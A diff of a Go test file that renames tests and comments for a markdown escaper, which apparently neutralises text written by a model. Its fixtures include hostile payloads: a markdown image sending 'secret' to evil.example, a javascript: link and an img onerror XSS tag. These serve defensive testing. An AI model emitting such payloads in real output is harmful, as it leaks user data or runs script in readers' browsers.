@@ -14,8 +14,8 @@ import (
 	"pulltab/internal/summarize"
 )
 
-// shown is what a reader of GFM makes of a line, as HTML.
-func shown(t *testing.T, md string) string {
+// rendered returns a line of GitHub Flavored Markdown as HTML.
+func rendered(t *testing.T, md string) string {
 	t.Helper()
 	var b bytes.Buffer
 	if err := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote)).Convert([]byte(md), &b); err != nil {
@@ -26,18 +26,18 @@ func shown(t *testing.T, md string) string {
 
 var tag = regexp.MustCompile(`</?(p|code)>`)
 
-// checkPlain holds Plain against its promise: what is shown is s, and nothing
-// but a paragraph with code in it.
+// checkPlain checks that the escaped s renders as s, in one paragraph with no
+// element other than code.
 func checkPlain(t *testing.T, s string) {
 	t.Helper()
-	got := shown(t, summarize.EscapeMarkdown(s))
+	got := rendered(t, summarize.EscapeMarkdown(s))
 	text := html.UnescapeString(tag.ReplaceAllString(got, ""))
 	if strings.Join(strings.Fields(text), " ") != strings.Join(strings.Fields(s), " ") || strings.Contains(tag.ReplaceAllString(got, ""), "<") {
-		t.Errorf("%q as %q is shown as %q", s, summarize.EscapeMarkdown(s), got)
+		t.Errorf("%q as %q is rendered as %q", s, summarize.EscapeMarkdown(s), got)
 	}
 }
 
-func TestWhatAModelWritesIsShownAndDoesNothing(t *testing.T) {
+func TestEscapedMarkdownRendersAsPlainText(t *testing.T) {
 	t.Parallel()
 	for _, s := range []string{
 		"![x](https://evil.example/?q=secret)", "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<https://evil.example>",
@@ -64,7 +64,7 @@ func FuzzPlain(f *testing.F) {
 	})
 }
 
-func TestMixturesDoNothingEither(t *testing.T) {
+func TestEscapedRandomMarkdownRendersAsPlainText(t *testing.T) {
 	t.Parallel()
 	parts := []string{"![", "](", ")", "https://e.example/", "www.e.example", "me@e.example", "`", "``", "<", ">", "a", " ", " ", "*", "_", "\\", "#", "-", "1.", "&lt;", "|", "~~", "[", "]", ":", "!", "(", ".", "é", "$", "^", "=", "mailto:", "http://", "@", "//"}
 	r := rand.New(rand.NewPCG(8, 5))
